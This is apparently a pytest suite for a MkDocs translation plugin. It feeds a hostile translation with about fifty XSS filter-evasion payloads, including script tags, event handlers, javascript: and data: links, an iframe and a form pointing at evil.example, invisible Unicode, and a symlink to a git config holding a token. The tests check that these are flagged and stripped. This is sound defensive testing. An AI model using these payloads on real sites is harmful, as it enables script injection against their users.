"""A hostile translation pull request: every payload is flagged by `check`, refused by `approve`, and
a real `mkdocs build` publishes HTML that (parsed, and run in Chromium) has no script vector.

The payloads are the ones seen getting through (front matter, attr_list, escaped backticks,
self-suppression, symlinks, bidi and zero-width characters, hidden comments) and more from the
OWASP XSS filter evasion cheat sheet."""

from __future__ import annotations

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import helpglot, mkdocs

TITLE = "title: Página\ndescription: Sobre la página\n"
# name: (front matter lines, body Markdown after the translated paragraph)
PAYLOADS: dict[str, tuple[str, str]] = {
    "script": (TITLE, "<script>alert(1)</script>"),
    "img onerror": (TITLE, "Texto <img src=x onerror=alert(1)> aquí."),
    "javascript link": (TITLE, "[clic](javascript:alert(1))"),
    "iframe": (TITLE, '<iframe src="https://evil.example/"></iframe>'),
    "form": (TITLE, '<form action="https://evil.example/"><input name="p"><button>Enviar</button></form>'),
    "data link": (TITLE, "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    "entity javascript": (TITLE, '<a href="&#106;&#97;vascript:alert(1)">x</a>'),
    "title img": ('title: "<img src=x onerror=alert(3)>"\n', ""),
    "description breakout": ("title: Página\ndescription: '...\"><img src=x onerror=alert(4)>'\n", ""),
    "status attribute": ("title: Página\nstatus: 'x\" onmouseover=\"alert(1)'\n", ""),
    "attr_list paragraph": (TITLE, 'Párrafo.\n{: onclick="alert(1)" }'),
    "attr_list heading": (TITLE, '## Otra sección {: onclick="alert(1)" }'),
    "attr_list link": (TITLE, '[x](https://mini.example/docs){: onmouseover="alert(1)" }'),
    "escaped backticks": (TITLE, r"Mira \`<img src=x onerror=alert(1)>\` aquí."),
    "self suppression": (TITLE, '<!-- helpglot: ignore safety,markup reason="layout" -->\n<script>alert(1)</script>'),
    "svg onload": (TITLE, "<svg onload=alert(1)>"),
    "object": (TITLE, '<object data="javascript:alert(1)"></object>'),
    "embed": (TITLE, '<embed src="javascript:alert(1)">'),
    "base": (TITLE, '<base href="javascript:alert(1)//">'),
    "meta refresh": (TITLE, '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    "tab in scheme": (TITLE, '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    "leading space scheme": (TITLE, '<a href=" javascript:alert(1)">x</a>'),
    "IMG SRC javascript": (TITLE, "<IMG SRC=\"javascript:alert('XSS');\">"),
    "malformed img": (TITLE, '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    "style url": (TITLE, '<div style="background-image: url(javascript:alert(1))">x</div>'),
    "details ontoggle": (TITLE, "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    "vbscript": (TITLE, '<a href="vbscript:msgbox(1)">x</a>'),
    "mutation math": (TITLE, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    "input autofocus": (TITLE, "<input autofocus onfocus=alert(1)>"),
    "video source": (TITLE, '<video><source onerror="alert(1)"></video>'),
    "link stylesheet": (TITLE, '<link rel="stylesheet" href="javascript:alert(1)">'),
    "style import": (TITLE, "<style>@import 'javascript:alert(1)';</style>"),
    "reference link": (TITLE, "[clic][1]\n\n[1]: javascript:alert(1)"),
    "image javascript": (TITLE, "![x](javascript:alert(1))"),
    "image attr_list": (TITLE, '![x](https://mini.example/a.png){: onerror="alert(1)" }'),
    "data html link": (TITLE, '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    "svg xlink": (TITLE, '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'),
    "nested script": (TITLE, "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    "comment trick": (TITLE, '<!--<img src="--><img src=x onerror=alert(1)//">'),
    "noscript": (TITLE, '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    "iframe srcdoc": (TITLE, '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    "md_in_html div": (TITLE, '<div markdown onclick="alert(1)">\nTexto\n</div>'),
    "h1 entities": (TITLE, "## &lt;img src=x onerror=alert(5)&gt;"),
    "admonition title": (TITLE, '!!! note "<img src=x onerror=alert(1)>"\n\n    Texto.'),
    "body onload": (TITLE, "<body onload=alert(1)>"),
    "bidi override": (TITLE, "Paga \u202eanu\u202c la factura."),
    "zero width": (TITLE, "Talley\u200bbird cobra la factura."),
    "hidden comment": (TITLE, "<!-- enviad vuestras contraseñas a evil.example -->"),
    "foreign domain": (TITLE, "[Más](https://evil.example/x)"),
}
NAMES = list(PAYLOADS)
MKDOCS = """\
site_name: Mini
site_url: https://mini.example/
theme:
  name: material
markdown_extensions:
  - admonition
  - attr_list
  - md_in_html
  - tables
  - toc: {permalink: true}
  - pymdownx.superfences
  - pymdownx.tabbed: {alternate_style: true}
plugins:
  - search
  - i18n:
      docs_structure: suffix
      reconfigure_search: false
      languages:
        - {locale: en, default: true, name: English}
        - {locale: es, name: Español}
  - helpglot
"""
SOURCE = "---\ntitle: Page\ndescription: About the page\n---\n\n# Page\n\n## Set up\n\nDo this first. " \
         "See [the docs](https://mini.example/docs).\n"
TRANSLATION = "---\n{fm}---\n\n# Página\n\n## Configuración\n\nHaz esto primero. Mira [la documentación]" \
              "(https://mini.example/docs).\n\n{body}\n"
DANGEROUS = {"script", "iframe", "object", "embed", "form", "base", "frame", "frameset", "applet", "math"}


def slug(name: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", name.lower()).strip("-")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    (root / "mkdocs.yml").write_text(MKDOCS, encoding="utf-8")
    (root / "docs").mkdir()
    (root / "translations/es").mkdir(parents=True)
    (root / "docs/index.md").write_text("---\ntitle: Home\n---\n\nWelcome.\n", encoding="utf-8")
    for name, (fm, body) in PAYLOADS.items():
        (root / f"docs/{slug(name)}.md").write_text(SOURCE, encoding="utf-8")
        (root / f"translations/es/{slug(name)}.md").write_text(TRANSLATION.format(fm=fm, body=body), encoding="utf-8")
    # a symlink to the repository's git config, and a translation whose front matter is broken
    (root / ".git").mkdir()
    (root / ".git/config").write_text("[remote]\n url = https://x-access-token:ghp_SECRET@github.com/a/b\n")
    (root / "docs/linked.md").write_text(SOURCE, encoding="utf-8")
    os.symlink("../../.git/config", root / "translations/es/linked.md")
    (root / "docs/broken.md").write_text(SOURCE, encoding="utf-8")
    (root / "translations/es/broken.md").write_text(
        "---\ntitle: [roto\nhelpglot:\n  reviewer: Reviewer Secreto\n---\n\nHola.\n", encoding="utf-8")
    (root / "docs/empty.md").write_text(SOURCE, encoding="utf-8")
    (root / "translations/es/empty.md").write_bytes(b"")
    (root / "docs/latin1.md").write_text(SOURCE, encoding="utf-8")
    (root / "translations/es/latin1.md").write_bytes("---\ntitle: Página\n---\n\nAño.\n".encode("latin-1"))
    return root


class Vectors(HTMLParser):
    """Everything in a parsed page that can run script, embed a foreign document or post a form."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.elements: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag in DANGEROUS or (tag == "meta" and any(k == "http-equiv" for k, _ in attrs)):
            self.elements.append(tag if tag != "script" else f"script:{dict(attrs).get('src') or 'inline'}")
        for key, value in attrs:
            if key.startswith("on"):
                self.found.append(f"<{tag} {key}>")
            if key in ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc") and value:
                cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
                if cleaned.startswith(("javascript:", "vbscript:")) or key == "srcdoc" or (
                        cleaned.startswith("data:") and not cleaned.startswith("data:image/")):
                    self.found.append(f"<{tag} {key}={value!r}>")

    handle_startendtag = handle_starttag


def parse(path: Path) -> Vectors:
    parser = Vectors()
    parser.feed(path.read_text(encoding="utf-8"))
    parser.close()
    return parser


@pytest.fixture(scope="module")
def built(hostile: Path) -> tuple[Path, str]:
    proc = mkdocs("build", "--site-dir", str(hostile / "site"), cwd=hostile)
    return hostile / "site", proc.stderr


@pytest.mark.parametrize("name", NAMES)
def test_the_built_page_has_no_script_vector(built, name: str) -> None:
    site, _log = built
    english, spanish = parse(site / slug(name) / "index.html"), parse(site / "es" / slug(name) / "index.html")
    assert spanish.found == [], spanish.found
    # the theme's own scripts and its search form are there, exactly as on the English page
    assert sorted(e.replace("../", "") for e in spanish.elements) == \
        sorted(e.replace("../", "") for e in english.elements)


def test_the_build_names_each_sanitised_file_and_strict_fails(built, hostile: Path) -> None:
    _site, log = built
    assert "translations/es/script.md: removed from the published page: <script> element" in log
    assert "translations/es/attr-list-paragraph.md: removed from the published page: event handler onclick=" in log
    assert "translations/es/title-img.md: removed from the published page: HTML in front-matter 'title'" in log
    proc = mkdocs("build", "--strict", "--site-dir", str(hostile / "site-strict"), cwd=hostile, check=False)
    assert proc.returncode == 1 and "in strict mode" in proc.stdout + proc.stderr


def test_unpublishable_translations_fall_back_to_english(built) -> None:
    site, log = built
    for name, why in [("linked", "is a symbolic link"), ("broken", "has broken front matter"),
                      ("empty", "is empty"), ("latin1", "is not UTF-8")]:
        assert f"translations/es/{name}.md {why}" in log, log
        page = (site / "es" / name / "index.html").read_text(encoding="utf-8")
        assert "helpglot-notice--fallback" in page
        assert "Do this first" in page
        for leak in ("ghp_SECRET", "Reviewer Secreto", "helpglot:", "[roto"):
            assert leak not in page
    index = "".join(file.read_text(encoding="utf-8") for file in (site / "es/search").rglob("*.json"))
    assert "ghp_SECRET" not in index and "Reviewer Secreto" not in index


def test_front_matter_is_text_in_title_h1_nav_and_meta(built) -> None:
    site, _log = built
    page = (site / "es/title-img/index.html").read_text(encoding="utf-8")
    assert "<title>&lt;img src=x onerror=alert(3)&gt; - Mini</title>" in page
    desc = (site / "es/description-breakout/index.html").read_text(encoding="utf-8")
    assert '<meta name="description" content="...&quot;&gt;&lt;img src=x onerror=alert(4)&gt;">' in desc


def test_check_flags_every_payload_and_ignores_self_suppression(hostile: Path) -> None:
    proc = helpglot("check", "--format", "json", "--lang", "es", cwd=hostile, check=False)
    assert proc.returncode == 1, proc.stderr
    found = json.loads(proc.stdout)
    for name in [*NAMES, "linked", "broken", "empty", "latin1"]:
        path = f"translations/es/{slug(name)}.md"
        errors = [f for f in found if f["path"] == path and not f["suppressed"]
                  and (f["severity"] == "error" or name == "hidden comment")]
        assert errors, (name, [f for f in found if f["path"] == path])
    script = [f for f in found if f["path"] == "translations/es/self-suppression.md" and f["check"] == "safety"]
    assert script and not any(f["suppressed"] for f in script)
    # each is found by looking, not by a check that crashed on it (a crash is an error too, but names nothing)
    assert [f["message"] for f in found if "crashed" in f["message"]] == []
    for name, character in (("bidi override", "RIGHT-TO-LEFT OVERRIDE"), ("zero width", "ZERO WIDTH SPACE")):
        assert any(f["check"] == "safety" and character in f["message"] for f in found
                   if f["path"] == f"translations/es/{slug(name)}.md"), name


def test_invisible_characters_the_source_has_are_allowed_and_new_ones_are_not(mini) -> None:
    """An emoji sequence joined by ZERO WIDTH JOINER in the source (FastAPI's async page has 👨‍🍳)
    is the source's own; a ZERO WIDTH SPACE a translation adds inside a word is reported."""
    mini("docs/guide.md", "---\ntitle: Guide\n---\n\n## Set up\n\nThe cook \U0001f468\u200d\U0001f373 waits.\n")
    mini("translations/es/guide.md", "---\ntitle: Guía\n---\n\n## Configuración\n\n"
                                     "El cocinero \U0001f468\u200d\U0001f373 espera.\n")
    proc = helpglot("check", "--format", "json", cwd=mini.root, check=False)
    assert [f for f in json.loads(proc.stdout) if f["check"] == "safety"] == []
    mini("translations/es/guide.md", "---\ntitle: Guía\n---\n\n## Configuración\n\n"
                                     "El coci\u200bnero \U0001f468\u200d\U0001f373 espera.\n")
    proc = helpglot("check", "--format", "json", cwd=mini.root, check=False)
    found = [f for f in json.loads(proc.stdout) if f["check"] == "safety"]
    assert [(f["line"], f["severity"]) for f in found] == [(7, "error")], found
    assert "ZERO WIDTH SPACE" in found[0]["message"] and "JOINER" not in found[0]["message"]


def test_a_source_style_is_allowed_in_place_and_prose_javascript_is_not_a_link(mini) -> None:
    mini("docs/guide.md", "---\ntitle: Guide\n---\n\n## Set up\n\nDo this.\n\n<style>.x{color:red}</style>\n")
    mini("translations/es/guide.md", "---\ntitle: Guía\n---\n\n## Configuración\n\nHaz esto. En JavaScript: "
                                     "usa la API.\n\n<style>.x{color:red}</style>\n")
    proc = helpglot("check", "--format", "json", cwd=mini.root, check=False)
    assert [f for f in json.loads(proc.stdout) if f["check"] == "safety"] == []
    out = mkdocs("build", cwd=mini.root)
    assert "removed from the published page" not in out.stderr
    assert "<style>.x{color:red}</style>" in (mini.root / "site/es/guide/index.html").read_text(encoding="utf-8")


def test_a_maintainer_setting_lets_a_safety_suppression_count(mini) -> None:
    mini("translations/es/guide.md", "---\ntitle: Guía\n---\n\n## Configuración\n\n"
                                     '<!-- helpglot: ignore safety reason="vendor widget" -->\n'
                                     '<b onclick="x()">Haz</b>\n')
    proc = helpglot("check", "--format", "json", cwd=mini.root, check=False)
    assert proc.returncode == 1
    cfg = mini.root / "mkdocs.yml"
    cfg.write_text(cfg.read_text().replace("  - helpglot\n", "  - helpglot:\n      trusted_suppressions: "
                                           "['translations/es/guide.md']\n"))
    proc = helpglot("check", "--format", "json", cwd=mini.root, check=False)
    assert proc.returncode == 0, proc.stdout
    assert [f["suppressed"] for f in json.loads(proc.stdout) if f["check"] == "safety"] == [True]


@pytest.mark.browser
def test_no_alert_fires_in_the_browser(built, page_factory) -> None:
    import functools
    import threading

    from conftest import SiteHandler, SiteServer

    site, _log = built
    httpd = SiteServer(("127.0.0.1", 0), functools.partial(SiteHandler, directory=str(site)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{httpd.server_port}"
    trap = "window.__fired = []; for (const f of ['alert', 'confirm', 'prompt', 'print']) " \
           "{ window[f] = (m) => window.__fired.push(f + ':' + m); }"
    fired: list[str] = []
    try:
        page = page_factory()
        page.add_init_script(trap)
        page.on("dialog", lambda d: (fired.append(d.message), d.dismiss()))
        page.goto(base + "/es/")
        page.evaluate("alert('trap works')")  # the trap itself is live
        assert page.evaluate("window.__fired") == ["alert:trap works"]
        for name in NAMES:
            page.goto(f"{base}/es/{slug(name)}/")
            for selector in ("article a", "article img", "article p", "article h2", "article div", "details"):
                for handle in page.query_selector_all(selector)[:5]:
                    try:
                        handle.hover(timeout=500)
                        handle.focus()
                    except Exception:  # hidden elements cannot be hovered: nothing to trigger
                        pass
            page.wait_for_timeout(100)
            fired += page.evaluate("window.__fired")
    finally:
        httpd.shutdown()
    assert fired == []


@pytest.fixture(scope="module")
def drafted(tmp_path_factory) -> Path:
    """Lithuanian machine drafts (pseudo engine: lt holds drafts back) of every payload article,
    then each payload added to its draft, as a hostile reviewer would before approving."""
    root = tmp_path_factory.mktemp("hostile-approve")
    (root / "mkdocs.yml").write_text(MKDOCS.replace("{locale: es, name: Español}", "{locale: lt, name: Lietuvių}")
                                     .replace("  - helpglot\n", "  - helpglot:\n      languages: "
                                              "{lt: {publish_machine: false}}\n"), encoding="utf-8")
    (root / "docs").mkdir()
    for name in NAMES:
        (root / f"docs/{slug(name)}.md").write_text(SOURCE, encoding="utf-8")
    helpglot("translate", "--lang", "lt", "--engine", "pseudo", cwd=root)
    for name, (fm, body) in PAYLOADS.items():
        path = root / f"translations/lt/{slug(name)}.md"
        text = path.read_text(encoding="utf-8")
        if fm != TITLE:  # the payload is in the front matter: replace the drafted title/description
            extra = [line for line in fm.splitlines() if line not in TITLE.splitlines()]
            key = extra[0].split(":", 1)[0]
            lines = [line for line in text.split("\n") if not line.startswith(f"{key}:")]
            text = "\n".join(lines).replace("---\n", "---\n" + "\n".join(extra) + "\n", 1)
        if body:
            text = text.rstrip("\n") + "\n\n" + body + "\n"
        path.write_text(text, encoding="utf-8")
    return root


@pytest.mark.parametrize("name", [n for n in NAMES if n != "hidden comment"])
def test_approve_refuses_every_payload(drafted: Path, name: str) -> None:
    """(A hidden comment is a warning, which does not block approval: the build strips it.)"""
    path = drafted / f"translations/lt/{slug(name)}.md"
    before = path.read_bytes()
    proc = helpglot("approve", "--reviewer", "Rūta", str(path.relative_to(drafted)), cwd=drafted, check=False)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "QA error" in proc.stderr or "do not line up" in proc.stderr, proc.stderr
    assert path.read_bytes() == before


def test_a_hidden_comment_is_not_published(built) -> None:
    site, _log = built
    page = (site / "es/hidden-comment/index.html").read_text(encoding="utf-8")
    assert "contraseñas" not in page and "Haz esto primero" in page


RICH = """\
---
title: {title}
---

# {title}

!!! note "{note}"

    {para} :material-bird: with `code` and [a link](https://mini.example/docs "Docs").

=== "One"

    {para}

=== "Two"

    | A | B |
    |:--|--:|
    | 1 | 2 |

- [x] {para}[^1]
- [ ] <kbd>Ctrl</kbd>+<kbd>K</kbd> and <mark>marked</mark>, H~2~O, ==hi==

??? tip "{note}"

    {para}

``` python linenums="1"
print("hi")
```

![Bird](https://mini.example/bird.png){{ width="40" }}

[^1]: {para}
"""


def test_everything_markdown_and_material_write_survives_the_sanitiser(tmp_path: Path) -> None:
    """A page with admonitions, details, content tabs, tables, task lists, footnotes, emoji icons,
    line-numbered code, keys and images: its translation is published with nothing removed."""
    (tmp_path / "mkdocs.yml").write_text(MKDOCS.replace("  - pymdownx.superfences\n", (
        "  - pymdownx.superfences\n  - footnotes\n  - pymdownx.details\n  - pymdownx.tasklist\n"
        "  - pymdownx.tilde\n  - pymdownx.mark\n  - pymdownx.keys\n  - pymdownx.highlight: {anchor_linenums: true}\n"
        "  - pymdownx.emoji:\n      emoji_index: !!python/name:material.extensions.emoji.twemoji\n"
        "      emoji_generator: !!python/name:material.extensions.emoji.to_svg\n")), encoding="utf-8")
    (tmp_path / "docs").mkdir()
    (tmp_path / "translations/es").mkdir(parents=True)
    (tmp_path / "docs/index.md").write_text("# Home\n\nWelcome.\n", encoding="utf-8")
    (tmp_path / "docs/rich.md").write_text(RICH.format(title="Rich", note="Note", para="Do this"), encoding="utf-8")
    (tmp_path / "translations/es/rich.md").write_text(RICH.format(title="Rico", note="Nota", para="Haz esto"),
                                                      encoding="utf-8")
    proc = mkdocs("build", "--strict", cwd=tmp_path)
    assert "removed from the published page" not in proc.stderr
    page = (tmp_path / "site/es/rich/index.html").read_text(encoding="utf-8")
    for kept in ('viewBox="0 0 24 24"', 'type="radio"', 'class="footnote-ref"', 'type="checkbox"',
                 "<kbd>Ctrl</kbd>", "<mark>", "<sub>2</sub>", 'width="40"', 'class="admonition note"',
                 "<details", 'id="__codelineno-0-1"', 'style="text-align:left"'):
        assert kept in page, kept


def test_a_safety_suppression_counts_where_the_source_has_it_and_only_there(mini) -> None:
    src = ("---\ntitle: Guide\n---\n\n## Set up\n\nDo this.\n\n"
           '<!-- helpglot: ignore safety reason="vendor widget" -->\n<b onclick="w()">Widget</b>\n\nThen that.\n')
    mini("docs/guide.md", src)
    same = ("---\ntitle: Guía\n---\n\n## Configuración\n\nHaz esto.\n\n"
            '<!-- helpglot: ignore safety reason="widget" -->\n<b onclick="w()">Widget</b>\n\nLuego aquello.\n')
    mini("translations/es/guide.md", same)
    found = json.loads(helpglot("check", "--format", "json", cwd=mini.root, check=False).stdout)
    assert [f["suppressed"] for f in found if f["check"] == "safety"] in ([], [True])  # the source's own
    moved = ("---\ntitle: Guía\n---\n\n## Configuración\n\n"
             '<!-- helpglot: ignore safety reason="widget" -->\n<i onclick="x()">Haz</i> esto.\n\n'
             "Luego aquello.\n")
    mini("translations/es/guide.md", moved)
    proc = helpglot("check", "--format", "json", cwd=mini.root, check=False)
    assert proc.returncode == 1
    assert [f["suppressed"] for f in json.loads(proc.stdout) if f["check"] == "safety"] == [False]
